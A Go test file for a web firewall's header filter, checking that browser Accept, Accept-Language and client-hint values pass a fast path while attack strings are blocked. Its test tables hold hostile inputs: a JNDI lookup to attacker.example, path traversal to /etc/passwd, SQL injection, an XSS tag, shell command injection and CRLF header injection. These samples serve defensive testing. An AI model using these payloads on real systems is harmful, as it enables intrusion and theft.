package filter

import (
	"net/http"
	"strings"
	"testing"
)

var negotiationSeeds = []string{
	"text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
	"en-US,en;q=0.9,fr;q=0.8", "gzip, deflate, br, zstd", "max-age=0", "no-cache", "u=0, i",
	"navigate", "same-origin", "1", "?1", "trailers", "application/json; charset=utf-8",
	"union/select", "en;or=1", "select.version", "or 1", "sleep;5", "id,uname", "cat/etc",
	"exec/xp_cmdshell", "java.lang.Runtime", "jndi;ldap=x", "a-b.c+d*e", "*/*",
	"application/java.lang.Runtime", "x/exec.xp-cmdshell", "text/javascript.alert", "a/etc.passwd",
	"x/system.exec", "x/os.system", "x/sys.objects", "x/information-schema.tables", "x/php.ini",
}

// TestNegotiationGrammar: browser values fit the form; attacks and
// anything a detector needs to see do not.
func TestNegotiationGrammar(t *testing.T) {
	for _, tc := range []struct {
		v  string
		ok bool
	}{
		{"text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8", true},
		{"en-US,en;q=0.9,fr;q=0.8", true},
		{"gzip, deflate, br, zstd", true},
		{"max-age=0", true},
		{"no-cache, no-store, must-revalidate", true},
		{"u=0, i", true},
		{"application/json; charset=utf-8", true},
		{"*/*", true},
		{"", false},
		{"../../../../etc/passwd", false},
		{"..;/WEB-INF/web.xml", false},
		{"${jndi:ldap://attacker.example/a}", false},
		{"en' OR '1'='1", false},
		{"en;q=0.9 union select 1", false},
		{"<script>alert(1)</script>", false},
		{"text/html;q=0.9 && id", false},
		{"gzip; sleep 5", false},
		{"a|b", false},
		{"%2e%2e/%2e%2e", false},
		{"$(id)", false},
		{"text/html\r\nX-Injected: 1", false},
		{"-rf/x", false},
		{".hidden", false},
		{"java.lang.Runtime", false},
		{"exec/xp_cmdshell", false},
		{"application/vnd.api+json;q=0.5", false},
		{"application/signed-exchange;v=b3;q=0.7", true},
		{"a..b", false},
		{"en-US,en;q=0.9,id;q=0.8,zh-Hans-CN;q=0.7,es-419;q=0.6", true},
		{"image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8", true},
		{"id;AA=0", false},
		{"seleCtversion", false},
		{"select", false},
		{"en;or=1", false},
		{"0--0", false},
		{"union/*", false},
		{"text/html;q=0.9999999", false},
		{"x/y/z", false},
		{string(make([]byte, maxNegotiationLen+1)), false},
	} {
		if got := negotiationClean(tc.v); got != tc.ok {
			t.Errorf("negotiationClean(%q) = %v, want %v", tc.v, got, tc.ok)
		}
	}
}

// TestNegotiationHeadersStillInspected: an attack in a negotiation header
// is blocked as before, and custom rules still see a clean value.
func TestNegotiationHeadersStillInspected(t *testing.T) {
	e := mustEngine(t, Config{})
	for _, v := range []string{"${jndi:ldap://attacker.example/a}", "../../../../etc/passwd", "en' OR '1'='1' --"} {
		r, _ := http.NewRequest("GET", "http://shop.example.com/", nil)
		r.Header.Set("Accept-Language", v)
		if d, err := e.InspectRequest(r, RequestInfo{All: true}); err != nil || !d.Blocked {
			t.Errorf("Accept-Language %q: not blocked (%v)", v, err)
		}
	}
	ce := mustEngine(t, Config{CustomRules: []CustomRule{{ID: "no-zstd", Targets: []string{"header"}, Pattern: `zstd`}}})
	r, _ := http.NewRequest("GET", "http://shop.example.com/", nil)
	r.Header.Set("Accept-Encoding", "gzip, deflate, br, zstd")
	if d, err := ce.InspectRequest(r, RequestInfo{All: true}); err != nil || !d.Blocked {
		t.Errorf("custom rule on a clean Accept-Encoding: not blocked (%v)", err)
	}
}

// FuzzNegotiationHeaderClean: the detectors, at the highest paranoia, find
// nothing in any value the negotiation form accepts, so skipping them for
// such values changes no verdict.
func FuzzNegotiationHeaderClean(f *testing.F) {
	for _, s := range negotiationSeeds {
		f.Add(s)
	}
	in := strictInspector(f)
	f.Fuzz(func(t *testing.T, v string) {
		if !negotiationClean(v) {
			return
		}
		for name := range negotiationHeaders {
			if hits := in.InspectValue(nil, KindHeaderValue, name, v); len(hits) > 0 {
				t.Fatalf("%s: %q fits the negotiation form but %s finds %v", name, v, hits[0].Rule, hits)
			}
		}
	})
}

// TestClientHintVocabularyClean: every brand, platform and GREASE spelling
// the client-hint shortcut accepts is one the detectors, at paranoia 4,
// find nothing in; attacks in a brand are still inspected.
func TestClientHintVocabularyClean(t *testing.T) {
	in := strictInspector(t)
	var accepted []string
	for w := range clientHintNames {
		accepted = append(accepted, w)
	}
	for i := 0; i < len(greaseBytes); i++ {
		for j := 0; j < len(greaseBytes); j++ {
			g := "Not" + greaseBytes[i:i+1] + "A" + greaseBytes[j:j+1] + "Brand"
			accepted = append(accepted, g, " "+g)
		}
	}
	accepted = append(accepted, "8", "99", "120", "120.0.6099.130", "99.0.4844.51", "99999")
	for _, s := range accepted {
		if !clientHintClean(s) {
			t.Errorf("clientHintClean(%q) = false", s)
			continue
		}
		for _, name := range []string{"Sec-Ch-Ua", "Sec-Ch-Ua-Full-Version-List", "Sec-Ch-Ua-Platform"} {
			if hits := in.InspectValue(nil, KindHeaderValue, name, s); len(hits) > 0 {
				t.Errorf("%s item %q skips the detectors but %v finds it", name, s, hits)
			}
		}
	}
	for _, s := range []string{"Chromium' OR '1'='1", "NotXABrand", "Not<A>Brand", "1.2.3.4.5", "123456", "1..2", "127.0.0.1", "169.254.169.254", "127.1", "10.0.0", "2130706433", "15.0.0", "${jndi:ldap://x.example/a}", "chromium"} {
		if clientHintClean(s) {
			t.Errorf("clientHintClean(%q) = true", s)
		}
	}
	e := mustEngine(t, Config{})
	r, _ := http.NewRequest("GET", "http://shop.example.com/", nil)
	r.Header.Set("Sec-Ch-Ua", `"Chromium";v="120", "${jndi:ldap://attacker.example/a}";v="1"`)
	if d, err := e.InspectRequest(r, RequestInfo{All: true}); err != nil || !d.Blocked {
		t.Errorf("attack in a client-hint brand: not blocked (%v)", err)
	}
}

// FuzzClientHintVersionClean: the detectors, at paranoia 4, find nothing
// in any client-hint item the shortcut accepts.
func FuzzClientHintVersionClean(f *testing.F) {
	for _, s := range []string{"8", "120.0.6099.130", "127.0.0.1", "0.0.0.0", "99999.99999.99999.99999", "Not)A;Brand"} {
		f.Add(s)
	}
	in := strictInspector(f)
	f.Fuzz(func(t *testing.T, s string) {
		if !clientHintClean(s) {
			return
		}
		if hits := in.InspectValue(nil, KindHeaderValue, "Sec-Ch-Ua", s); len(hits) > 0 {
			t.Fatalf("%q skips the detectors but %v finds it", s, hits)
		}
	})
}

// strictInspector is an Inspector at the highest paranoia, the one the
// header shortcuts are proved against.
func strictInspector(tb testing.TB) *Inspector {
	in, err := NewInspector(InspectorOptions{Paranoia: 4})
	if err != nil {
		tb.Fatal(err)
	}
	return in
}

// TestNegotiationVocabularyFits: every word of the vocabularies is found
// in any case, and each table is at most a quarter full.
func TestNegotiationVocabularyFits(t *testing.T) {
	for _, voc := range []*vocabulary{negotiationWords, negotiationParams, mediaTopLevel} {
		n := 0
		for _, w := range voc.slots {
			if w == "" {
				continue
			}
			n++
			if !voc.has(w) || !voc.has(strings.ToUpper(w)) {
				t.Errorf("vocabulary word %q not found", w)
			}
		}
		if n == 0 || n > vocabularySlots/4 {
			t.Errorf("vocabulary of %d words in %d slots", n, vocabularySlots)
		}
	}
	for _, w := range []string{"", "tex", "htmlx", "TEXT/", "application+", strings.Repeat("a", 40)} {
		if negotiationWords.has(w) {
			t.Errorf("%q found in the vocabulary", w)
		}
	}
}
